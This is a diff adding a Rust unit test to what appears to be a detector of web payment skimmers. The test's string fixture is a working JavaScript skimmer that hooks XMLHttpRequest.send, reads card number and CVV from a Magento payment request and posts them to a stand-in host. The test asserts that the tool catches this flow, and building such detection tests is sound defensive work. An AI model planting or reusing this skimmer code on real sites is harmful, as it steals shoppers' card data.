@@ -503,6 +503,32 @@ mod tests {
         assert!(code.contains("navigator.sendBeacon(\"/api/pay\""), "{code}");
     }
 
+    /// A hook on `XMLHttpRequest.prototype.send` copies the shop's own order request (card
+    /// fields in Magento's payment-information shape) to its host; the shop's request itself
+    /// is no send.
+    #[test]
+    fn a_hook_on_the_shops_own_request_is_a_flow() {
+        let src = r#"
+            (function (p) {
+              var send = p.send, open = p.open;
+              p.send = function (body) {
+                try {
+                  var d = JSON.parse(body).paymentMethod.additional_data;
+                  var c = new XMLHttpRequest();
+                  open.call(c, 'POST', 'https://hook.x-relay.example/c');
+                  send.call(c, btoa(d.cc_number + ':' + d.cc_cid));
+                } catch (e) {}
+                return send.apply(this, arguments);
+              };
+            })(XMLHttpRequest.prototype);
+        "#;
+        let obs = observe(src, limits(false), None).unwrap();
+        assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
+        let code = layer(&obs, true).unwrap();
+        assert!(code.contains("https://hook.x-relay.example/c"), "{code}");
+        assert!(code.contains("#cc_number"), "{code}");
+    }
+
     #[test]
     fn the_stub_page_records_a_flow_and_sends_nothing() {
         let src = r#"
